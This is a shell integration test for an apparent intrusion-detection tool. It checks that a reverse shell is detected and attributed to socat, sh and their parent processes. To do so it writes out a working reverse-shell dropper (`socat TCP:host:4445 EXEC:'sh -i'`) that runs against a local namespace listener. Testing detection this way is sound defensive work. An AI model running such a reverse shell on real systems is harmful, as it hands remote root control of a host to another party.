#!/bin/bash
# Process attribution (Carrier & Shields, STOP sec. 3.2-3.7, Table II): a reverse shell
# started on this host, `socat TCP:scanner:4445 EXEC:'sh -i'`, is found by root-sig; its
# evidence record names the processes behind the connection: socat owns the TCP socket, sh
# is at the other end of socat's local socket, and both parent chains are walked.
set -euo pipefail
. "$(dirname "$0")/lib.sh"

NFSENTRYCTL=${NFSENTRYCTL:-$LIB_DIR/../../build/tools/nfsentryctl}
SOCK=$TMPD/control.sock
ROOT_SIG='e["event"] == "backdoor" and e["detector"] == "root-sig"'
s_listening() { in_s ss -Hltn "sport = :$1" | grep -q .; }

setup
step "the scanner listens on 4445 and types id after a second"
{ sleep 1; echo id; sleep 4; } | in_s socat -T 8 TCP-LISTEN:4445,reuseaddr STDIO >"$TMPD/listener.out" 2>&1 &
wait_until 5 s_listening 4445 || fail "the listener on the scanner did not start"

step "the victim connects out with a shell, from a wrapper script (a parent to find)"
cat >"$TMPD/dropper.sh" <<SH
#!/bin/sh
exec 3>"$TMPD/dropper.pid"
echo \$\$ >&3
socat TCP:$S4:4445 EXEC:'sh -i',stderr
SH
chmod +x "$TMPD/dropper.sh"
timeout 15 ip netns exec "$VNS" "$TMPD/dropper.sh" </dev/null >"$TMPD/shell.log" 2>&1 &
wait_until 10 grep -q 'uid=0(root)' "$TMPD/listener.out" ||
	fail "the listener did not get the shell's answer to id: $(cat "$TMPD/listener.out")"
wait_for_event "$ROOT_SIG and len(e.get('token', '')) == 64"
token=$(events_match "$ROOT_SIG" | head -1 | python3 -c 'import json, sys; print(json.loads(sys.stdin.readline())["token"])')
dropper=$(cat "$TMPD/dropper.pid")

step "the record names socat, sh and their parents"
timeout 20 "$NFSENTRYCTL" -s "$SOCK" --json evidence "$token" >"$TMPD/rec.json" ||
	fail "evidence $token: $(cat "$TMPD/rec.json")"
python3 - "$TMPD/rec.json" "$V4" "$S4" "$dropper" <<'PY' || fail "attribution is not as expected: $(cat "$TMPD/rec.json")"
import json, sys
a = json.load(open(sys.argv[1]))
v4, s4, dropper = sys.argv[2], sys.argv[3], int(sys.argv[4])
assert a["intact"] is True, a
at = a["record"]["attribution"]
assert "error" not in at, at
sock = at["socket"]
assert sock["local"].startswith(v4 + ":") and sock["remote"] == s4 + ":4445", sock
assert sock["uid"] == 0 and sock["inode"] > 0, sock
procs = {p["pid"]: p for p in at["processes"]}
owners = [p for p in procs.values() if p["role"] == "socket-owner"]
assert owners and all(p["name"] == "socat" for p in owners), owners
owner = owners[0]
assert owner["exe"].endswith("/socat") and "TCP:%s:4445" % s4 in owner["cmdline"], owner
for k in ("pid", "ppid", "uid", "euid", "start_time", "tty", "cmdline"):
    assert k in owner, (k, owner)
# sh: the shell at the other end of socat's local socket (EXEC uses a socketpair)
shells = [p for p in procs.values() if p["name"] in ("sh", "dash")]
assert shells, "no sh among %s" % [(p["pid"], p["name"], p["role"]) for p in procs.values()]
sh = shells[0]
assert sh["role"] == "ipc-peer" and sh["ppid"] == owner["pid"], sh
assert "sh -i" in " ".join(sh["cmdline"]) or sh["cmdline"][-1:] == ["-i"], sh
# the parent chain: socat's parent is the dropper script, and the walk goes on up to pid 1
assert owner["ppid"] == dropper, (owner["ppid"], dropper)
assert dropper in procs and procs[dropper]["role"] == "parent", procs.get(dropper)
assert 1 in procs, "the walk did not reach pid 1: %s" % sorted(procs)
assert a["record"]["host"]["hostname"], a["record"]["host"]
PY
pass
